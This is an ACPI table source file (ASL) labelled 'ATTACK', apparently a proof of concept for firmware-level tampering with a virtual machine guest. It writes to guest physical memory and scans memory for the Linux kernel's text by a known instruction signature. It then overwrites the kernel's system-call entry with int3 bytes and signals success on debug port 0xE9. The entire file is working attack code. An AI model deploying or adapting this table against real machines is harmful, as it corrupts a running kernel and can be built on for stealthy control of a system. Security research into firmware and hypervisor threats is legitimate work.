// Writes into the guest's memory, and looks whether it has changed: a page, then where the kernel's
// text has the entry of system calls.
DefinitionBlock ("", "SSDT", 2, "ATTACK", "WRITE", 1)
{
    Device (\_SB.ATWR)
    {
        Name (_HID, "ATCK0002")
        OperationRegion (PORT, SystemIO, 0xE9, 1)
        Field (PORT, ByteAcc, NoLock, Preserve) { OUTB, 8 }
        OperationRegion (PAGE, SystemMemory, 0x18002000, 4)
        Field (PAGE, DWordAcc, NoLock, Preserve) { WORD, 32 }

        Method (_INI, 0, Serialized)
        {
            OUTB = 0x77 // w: it runs
            WORD = 0x6B636174
            If (WORD == 0x6B636174)
            {
                OUTB = 0x57 // W: it has written
            }
        }
    }

    Device (\_SB.ATKT)
    {
        Name (_HID, "ATCK0009")
        OperationRegion (PORT, SystemIO, 0xE9, 1)
        Field (PORT, ByteAcc, NoLock, Preserve) { OUTB, 8 }

        Method (TEXT, 1, Serialized)
        {
            OperationRegion (HEAD, SystemMemory, Arg0, 0x100)
            Field (HEAD, DWordAcc, NoLock, Preserve)
            {
                INSN, 32,
                Offset (0x80),
                CALL, 32
            }
            // The text begins with srso_alias_untrain_ret: a 2-byte nop, lfence. System calls enter at 0x80.
            If (INSN == 0xAE0F9066)
            {
                CALL = 0xCCCCCCCC
                If (CALL == 0xCCCCCCCC)
                {
                    OUTB = 0x4B // K: the kernel's text has changed
                }
            }
        }

        Method (_INI, 0, Serialized)
        {
            OUTB = 0x6B // k: it runs
            // Wherever it has put itself, it starts at a multiple of 2 MiB.
            Local0 = 0x01000000
            While (Local0 < 0x20000000)
            {
                TEXT (Local0)
                Local0 += 0x00200000
            }
        }
    }
}
